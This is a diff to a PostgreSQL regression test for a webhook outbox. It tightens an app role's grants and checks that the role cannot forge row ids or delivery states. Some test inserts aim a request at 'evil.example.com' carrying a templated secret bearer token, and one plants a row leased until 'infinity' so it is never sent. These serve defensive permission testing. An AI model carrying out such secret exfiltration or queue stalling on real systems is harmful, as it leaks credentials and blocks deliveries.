@@ -21,10 +21,12 @@ SELECT nextphone.create_webhook('{
 -- delivery status; reads no secret and changes no webhook.
 CREATE ROLE regress_nextphone_app NOLOGIN;
 GRANT USAGE ON SCHEMA nextphone TO regress_nextphone_app;
-GRANT EXECUTE ON FUNCTION nextphone.record_call(jsonb), nextphone.enqueue(text, jsonb),
-	nextphone.webhook_trigger() TO regress_nextphone_app;
+GRANT EXECUTE ON FUNCTION nextphone.record_call(jsonb), nextphone.enqueue(text, jsonb)
+	TO regress_nextphone_app;
 GRANT SELECT, INSERT ON nextphone.calls, nextphone.leads TO regress_nextphone_app;
-GRANT INSERT ON nextphone.outbox TO regress_nextphone_app;
+-- the request's columns only: the id and the delivery state are the worker's
+GRANT INSERT (webhook, webhook_id, event, vars, method, url, headers, body, msg_id)
+	ON nextphone.outbox TO regress_nextphone_app;
 GRANT SELECT ON nextphone.message_status TO regress_nextphone_app;
 
 -- The reporting role: delivery status (and the worker's webhook_health
@@ -60,6 +62,13 @@ VALUES ('rolesCRM', 'https://evil.example.com/', '{"Authorization": "Bearer {{se
 -- nor an ad-hoc request with a secret
 INSERT INTO nextphone.outbox (url, headers)
 VALUES ('https://evil.example.com/', '{"Authorization": "Bearer {{secret.crm_key}}"}');
+-- nor forge a row's id (a later event's insert would fail on it) or its
+-- delivery state (a row "sending" under a lease that never ends is never sent)
+INSERT INTO nextphone.outbox (id, webhook, vars) VALUES (1000000, 'rolesCRM', '{}');
+INSERT INTO nextphone.outbox (webhook, vars, status, lease_until, leased_by)
+VALUES ('rolesCRM', '{}', 'sending', 'infinity', 7);
+INSERT INTO nextphone.outbox (webhook, vars, status, delivered_at)
+VALUES ('rolesCRM', '{}', 'delivered', now());
 RESET ROLE;
 
 -- Its inserts fired the signed webhook, the secret left as a tag.
